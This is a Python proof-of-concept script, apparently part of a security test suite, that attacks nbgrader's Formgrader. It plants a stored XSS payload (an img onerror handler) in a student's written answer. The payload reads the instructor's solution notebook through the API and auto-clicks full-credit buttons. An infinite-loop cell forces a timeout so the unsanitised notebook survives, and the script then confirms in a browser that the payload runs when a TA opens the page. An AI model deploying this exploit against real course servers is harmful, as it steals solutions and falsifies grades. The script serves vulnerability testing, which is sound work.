"""a07: nbgrader autograde writes autograded/<student>/<a>/<a>.ipynb in its first pass (sanitise: the student's
cells as handed in), then executes it; InertForTheBrowser (markdown made safe for Formgrader) runs only at the end
of the second pass. A submission stopped at the grader's time limit (child killed) may leave the first pass's
notebook: the student's raw markdown, which Formgrader renders unsanitised, in a submission the gradebook lists.
mallory: a written answer holding <img onerror=...> and a cell that never ends. Graded with --submission-timeout 60
(the TA's option; the default 900 s only makes the wait longer). Controls aaron, zoe."""
import sqlite3, sys, time
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *

XSS = ('<img src=x onerror="window.PWNED=1;'
       "fetch('/api/contents/source/ps1_memory/ps1_memory.ipynb').then(r=>r.json()).then(j=>{window.SOLUTION=JSON.stringify(j.content).slice(0,300)});"
       "setTimeout(function(){$('.full-credit').click()},4000)\">")
m = honest()
for c in m.cells:
    g = c.metadata.get("nbgrader", {}).get("grade_id")
    if g == "written_ddp_fit":
        c.source = "My answer. " + XSS
    if g == "quiz_q1":
        c.source += "\nimport time\nwhile True:\n    time.sleep(1)\n"
d = course("a07")
handin(d, "aaron", honest())
handin(d, "mallory", m)
handin(d, "zoe", honest())
grade(d, extra_args=("--submission-timeout", "60")); scores(d); report(d)
p = f"{d}/autograded/mallory/{A}/{A}.ipynb"
print("autograded notebook left:", os.path.exists(p), "files:", os.listdir(os.path.dirname(p)) if os.path.isdir(os.path.dirname(p)) else None)
if os.path.exists(p):
    s = open(p).read()
    print("raw <img onerror> in it:", 'onerror=\\"' in s or "onerror=" in s and "<img" in s)
db = sqlite3.connect(f"{d}/gradebook.db")
print("gradebook rows for mallory:", db.execute("""select sn.id from submitted_notebook sn join submitted_assignment sa
      on sn.assignment_id=sa.id where sa.student_id='mallory'""").fetchall())

from browser_fg import open_formgrader
def ta(page, url):
    time.sleep(6)
    return page.evaluate("() => ({pwned: window.PWNED || 0, solution_read_as_the_TA: window.SOLUTION || null})")
print("TA opens mallory's page in Formgrader:", open_formgrader(d, "mallory", ta, shot="tests/attacks/round35/user/a07-formgrader.png"))
scores(d)
